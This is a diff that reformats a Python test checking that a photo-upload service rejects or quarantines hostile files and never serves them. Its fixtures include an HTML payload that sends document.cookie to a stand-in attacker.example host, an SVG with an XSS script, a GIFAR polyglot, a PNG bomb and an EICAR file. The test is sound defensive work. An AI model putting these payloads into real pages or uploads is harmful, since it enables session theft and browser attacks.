@@ -53,16 +53,22 @@ def _elf() -> bytes:
     return images.ELF_HEADER + b"\x00" * 512
 
 
-HTML = (b"<!DOCTYPE html><html><head><title>photo</title></head><body>"
-        b"<script>fetch('https://attacker.example/?c='+document.cookie)</script></body></html>\n")
-SVG = (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="64" height="64">'
-       b'<rect width="64" height="64"/><script>alert(document.domain)</script></svg>\n')
+HTML = (
+    b"<!DOCTYPE html><html><head><title>photo</title></head><body>"
+    b"<script>fetch('https://attacker.example/?c='+document.cookie)</script></body></html>\n"
+)
+SVG = (
+    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="64" height="64">'
+    b'<rect width="64" height="64"/><script>alert(document.domain)</script></svg>\n'
+)
 
 
 def _gifar() -> bytes:
     """A GIF followed by a JAR (a ZIP): a GIF to an image viewer, an archive to a JVM (the GIFAR attack)."""
-    gif = (b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x01\x00\x00\x00\x00"
-           b",\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;")
+    gif = (
+        b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x01\x00\x00\x00\x00"
+        b",\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"
+    )
     return gif + _zip("META-INF/MANIFEST.MF", b"Manifest-Version: 1.0\nMain-Class: Evil\n")
 
 
@@ -80,7 +86,7 @@ def _png_declaring(width: int, height: int) -> bytes:
     small = images.png_bomb(64, 4)
     ihdr = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
     chunk = struct.pack(">I", len(ihdr)) + b"IHDR" + ihdr + struct.pack(">I", zlib.crc32(b"IHDR" + ihdr) & 0xFFFFFFFF)
-    return small[:8] + chunk + small[8 + len(chunk):]
+    return small[:8] + chunk + small[8 + len(chunk) :]
 
 
 def _eicar() -> bytes:
@@ -180,8 +186,9 @@ def test_hostile_uploads_are_never_served_and_a_good_jpeg_is(
     assert len(_eicar()) == 68
 
     # A type the grant does not even issue for: refused before any upload URL exists.
-    svg_grant = api.post("/me/photos", json={"contentType": "image/svg+xml", "sizeBytes": len(SVG)},
-                         headers=member.auth)
+    svg_grant = api.post(
+        "/me/photos", json={"contentType": "image/svg+xml", "sizeBytes": len(SVG)}, headers=member.auth
+    )
     refused_at_grant = 1 if svg_grant.status_code == 422 and "uploadUrl" not in svg_grant.text else 0
 
     ids = {label: _upload(api, member, data, ctype) for label, (data, ctype, _) in files.items()}
@@ -207,16 +214,24 @@ def test_hostile_uploads_are_never_served_and_a_good_jpeg_is(
     statuses = {label: (outcome[photo_id]["status"], outcome[photo_id]["reason"]) for label, photo_id in ids.items()}
     left_in_quarantine = {
         label: _names(blob_service, "photo-quarantine", f"{owner.account_id}/{member.user_id}/{photo_id}/")
-        for label, photo_id in ids.items()}
+        for label, photo_id in ids.items()
+    }
     rejected = sum(1 for s, _ in statuses.values() if s == "rejected")
     quarantined = sum(1 for s, _ in statuses.values() if s == "quarantined")
     n_served = sum(1 for ways in served_by.values() if ways)
     control_served = served(control)
-    figure(ROW, f"{len(files) + 1} hostile files tried ({len(files)} uploaded through the grant + 1 SVG type "
-                f"refused at the grant), {n_served} served ({rejected} rejected, {quarantined} quarantined, "
-                f"{refused_at_grant} refused at the grant); control JPEG served: {bool(control_served)}",
-           tried=len(files) + 1, served=n_served, rejected=rejected, quarantined=quarantined,
-           refused_at_grant=refused_at_grant, control_served=bool(control_served))
+    figure(
+        ROW,
+        f"{len(files) + 1} hostile files tried ({len(files)} uploaded through the grant + 1 SVG type "
+        f"refused at the grant), {n_served} served ({rejected} rejected, {quarantined} quarantined, "
+        f"{refused_at_grant} refused at the grant); control JPEG served: {bool(control_served)}",
+        tried=len(files) + 1,
+        served=n_served,
+        rejected=rejected,
+        quarantined=quarantined,
+        refused_at_grant=refused_at_grant,
+        control_served=bool(control_served),
+    )
 
     assert {label: ways for label, ways in served_by.items() if ways} == {}, "hostile files served"
     assert statuses == {label: ("rejected", reason) for label, (_, _, reason) in files.items()}
